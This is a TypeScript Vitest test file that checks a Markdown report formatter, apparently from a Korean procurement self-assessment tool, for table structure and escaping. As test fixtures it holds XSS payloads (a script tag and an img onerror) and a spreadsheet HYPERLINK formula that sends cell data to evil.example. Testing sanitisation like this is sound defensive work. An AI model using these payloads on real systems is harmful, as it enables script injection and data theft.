import { describe, expect, it } from 'vitest';
import { formatMarkdown } from '../../src/report/markdown.js';
import { escapeMarkdownCell } from '../../src/report/sanitize.js';
import { PREVIOUS, options, sampleResult } from './factory.js';

/** Cells of a Markdown table row, honouring `\|` escapes. */
const cells = (line: string): string[] =>
  line
    .slice(2, -2)
    .split(/(?<!\\) \| /)
    .map((c) => c.trim());

describe('formatMarkdown', () => {
  const text = formatMarkdown(sampleResult({ groupBy: 'month', previous: PREVIOUS }), options({ lang: 'en', limit: null }));

  it('writes the summary and findings as tables whose rows all have the header’s cell count', () => {
    const tables = text.split('\n\n').filter((b) => b.startsWith('| '));
    expect(tables.length).toBeGreaterThanOrEqual(5);
    for (const t of tables) {
      const [head, ...rows] = t.split('\n');
      const count = cells(head ?? '').length;
      for (const r of rows) expect(cells(r)).toHaveLength(count);
    }
    expect(text).toContain('## Summary by rule');
    expect(text).toContain('## Findings');
    expect(text).toContain('## Breakdown (by month)');
    expect(text).toContain('## Compared with the previous quarter');
    expect(text).toContain('## Rejected rows (2)');
  });

  it('escapes pipes, backticks, emphasis, HTML and line breaks from the input', () => {
    expect(text).not.toContain('<script>');
    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(text).toContain('late \\| 30 min');
    expect(text).toContain('부산지방조달청 \\`계약과\\` \\*\\*긴급\\*\\*');
    expect(text).toContain('paid late second line');
    expect(text).not.toContain('\u001b');
  });

  it('puts the record id into a cell without letting it open a link or code span', () => {
    const row = text.split('\n').find((l) => l.includes('HYPERLINK')) ?? '';
    expect(cells(row)[1]).toBe('=HYPERLINK("http://evil.example/?x="&amp;A1,"클릭")');
  });

  it('labels in Korean with lang ko', () => {
    const ko = formatMarkdown(sampleResult(), options({ lang: 'ko' }));
    expect(ko).toContain('# 조달서비스 이행실태 자체평가');
    expect(ko).toContain('## 규칙별 요약');
    expect(ko).toContain('2시간 15분 초과');
  });

  it('escapeMarkdownCell handles each special character', () => {
    expect(escapeMarkdownCell('a|b')).toBe('a\\|b');
    expect(escapeMarkdownCell('`x`')).toBe('\\`x\\`');
    expect(escapeMarkdownCell('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(escapeMarkdownCell('a\nb\r\nc')).toBe('a b c');
    expect(escapeMarkdownCell('[link](http://x)')).toBe('\\[link\\](http://x)');
  });
});
